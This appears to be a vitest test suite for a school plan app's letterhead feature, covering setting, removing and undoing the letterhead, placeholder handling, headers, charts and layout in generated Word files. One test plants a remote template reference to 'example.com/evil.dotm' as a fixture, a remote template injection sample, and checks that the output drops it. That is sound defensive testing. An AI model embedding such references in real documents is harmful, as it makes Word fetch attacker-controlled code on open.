import { describe, expect, it } from 'vitest';
import { contract } from '../../../app/contract/contract.ts';
import { writeOnLetterhead } from '../../../app/documents/word/letterhead.ts';
import { composeDocument } from '../../../planning/documents/compose.ts';
import { docxFaults, docxParts, textOf } from '../../support/docx-structure.ts';
import { AWKWARD_NAMES, factsFor, hillcrest } from '../../support/document-schools.ts';
import { letterhead, withParts } from '../../support/letterheads.ts';
import { planInMemory, type TestPlan } from '../../support/plan-in-memory.ts';
import { everyElement } from '../../support/xml-tree.ts';
import { zipEntries } from '../../support/zip-entries.ts';

const base64 = (file: Uint8Array): string => Buffer.from(file).toString('base64');
const give = (plan: TestPlan, file: Uint8Array, fileName = 'Headed paper.docx') => plan.call('document.setLetterhead', { fileName, base64: base64(file) });
const wordOf = async (plan: TestPlan, kind: 'strategy' | 'summary' = 'summary'): Promise<Uint8Array> => Buffer.from((await plan.call('document.file', { kind, format: 'docx', asOf: '2026-11-21' })).base64, 'base64');
const partOf = (file: Uint8Array, name: RegExp): string[] => [...docxParts(file).xml].filter(([each]) => name.test(each)).map(([, root]) => textOf(root));
const EMPTY_PAGE = Buffer.from(contract['document.setLetterhead'].example.base64, 'base64');

describe('the school’s own paper', () => {
  it('is kept in the plan, used for Word from then on, and given up again; undo takes each back', async () => {
    using plan = planInMemory();
    const plain = textOf(docxParts(await wordOf(plan)).body);
    expect(await plan.call('document.letterhead', {})).toEqual({ letterhead: null });
    const { change, value } = await give(plan, await letterhead([['{{title}}'], ['{{body}}']]));
    expect(change?.label).toBe('Write documents on Headed paper.docx');
    expect(value).toEqual({ title: true, body: true, sentence: 'Documents go where Headed paper.docx says {{body}}, and their titles where it says {{title}}.' });
    expect(await plan.call('document.letterhead', {})).toEqual({ letterhead: { fileName: 'Headed paper.docx', addedOn: '2026-11-21' } });
    expect(partOf(await wordOf(plan), /header\d*\.xml$/)).toContain('Northmoor Academy');
    const { change: removed } = await plan.call('document.removeLetterhead', {});
    expect(removed?.label).toBe('Write documents on plain paper again');
    expect(textOf(docxParts(await wordOf(plan)).body)).toBe(plain);
    await plan.call('plan.undo', {});
    expect(partOf(await wordOf(plan), /header\d*\.xml$/)).toContain('Northmoor Academy');
    await plan.call('plan.undo', {});
    expect(await plan.call('document.letterhead', {})).toEqual({ letterhead: null });
  });

  it('changes nothing when the same file is given again, and a new one takes its place', async () => {
    using plan = planInMemory();
    const file = await letterhead([['{{body}}']]);
    await give(plan, file);
    expect((await give(plan, file)).change).toBeNull();
    expect((await give(plan, EMPTY_PAGE, 'Plain.docx')).value.sentence).toBe('Plain.docx does not say {{body}}, so documents go after what is written on it.');
    expect((await plan.call('document.letterhead', {})).letterhead?.fileName).toBe('Plain.docx');
  });
});

describe('a document on the school’s own paper', () => {
  it.each<readonly [string, () => Promise<Uint8Array>]>([
    ['with places for the title and the text, in several runs', async () => letterhead([['For the ', 'governors'], ['{{ti', 'tle}}'], ['{{', 'body', '}}'], ['Yours faithfully']])],
    ['with nothing on it but a header and a footer', async () => letterhead()],
    ['with an address and no place for the text', async () => letterhead([['Moor Lane'], []])],
    ['that has neither styles nor a page', async () => Promise.resolve(EMPTY_PAGE)],
    ['saved as a template of Word', async () => withParts(await letterhead([['{{body}}']]), { '[Content_Types].xml': (text) => text.replace('document.main+xml', 'template.main+xml') })],
  ])('%s has all of it, with its contents and charts, and is one that Word opens', async (_, paper) => {
    const model = composeDocument(factsFor(await hillcrest(), 'strategy'));
    const file = await writeOnLetterhead(model, await paper());
    expect(docxFaults(file)).toEqual([]);
    const text = textOf(docxParts(file).body);
    for (const { number, title } of model.sections) expect(text).toMatch(new RegExp(`^${number ?? ''}\u2002${title}\t\\d+$`, 'm'));
    expect(text.match(new RegExp(model.title, 'g'))).toHaveLength(1);
    expect(text).not.toMatch(/[{\uE000]/);
    const charts = model.sections.flatMap(({ blocks }) => blocks).filter(({ kind }) => kind === 'figure').length;
    expect([...docxParts(file).names].filter((name) => /charts\/chart\d+\.xml$/.test(name))).toHaveLength(charts);
  });

  it('keeps what is written around it, in its place', async () => {
    const model = composeDocument(factsFor(await hillcrest(), 'summary'));
    const text = textOf(docxParts(await writeOnLetterhead(model, await letterhead([['For the governors'], ['{{body}}'], ['Yours faithfully']]))).body);
    const places = ['For the governors', model.title, model.sections[0]?.title ?? '', model.sections.at(-1)?.title ?? '', 'Yours faithfully'].map((each) => text.indexOf(each));
    expect(places.every((at) => at >= 0)).toBe(true);
    expect(places).toEqual(places.toSorted((one, other) => one - other));
  });

  it('keeps its header on the sheets that lie across, and its own headings', async () => {
    const model = composeDocument(factsFor(await hillcrest(), 'strategy'));
    const { body, xml } = docxParts(await writeOnLetterhead(model, await letterhead([['{{body}}']])));
    const sheets = everyElement(body).filter(({ name }) => name === 'w:sectPr');
    expect(sheets.length).toBeGreaterThan(1);
    for (const { children } of sheets) expect(children.map(({ name }) => name)).toContain('w:headerReference');
    const heading = everyElement(xml.get('word/styles.xml') ?? expect.fail()).find(({ name, attributes }) => name === 'w:style' && attributes['w:styleId'] === 'Heading1');
    expect(everyElement(heading ?? expect.fail()).find(({ name }) => name === 'w:color')?.attributes['w:val']).toBe('7A1F3D');
  });

  it('takes a name that looks like a place for a name', async () => {
    const words = AWKWARD_NAMES.join(' ') + ' {{body}} {{title}}';
    const model = composeDocument(factsFor(await hillcrest(), 'summary', { settings: { sections: [{ section: 'costs', included: true, words }] } }));
    const file = await writeOnLetterhead(model, await letterhead([['{{title}}'], ['{{body}}']]));
    expect(textOf(docxParts(file).body)).toContain(words);
  });

  it('does not take the template along that the paper was made from', async () => {
    const paper = withParts(await letterhead(), {
      'word/settings.xml': (text) => text.replace(/(<w:settings\b[^>]*>)/, '$1<w:attachedTemplate r:id="rId9"/>'),
      'word/_rels/settings.xml.rels': () => '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://example.com/evil.dotm" TargetMode="External"/></Relationships>',
    });
    using plan = planInMemory();
    await give(plan, paper);
    expect(Buffer.concat([...zipEntries(await wordOf(plan)).values()]).toString('latin1')).not.toMatch(/attachedTemplate|example\.com/);
  });
});
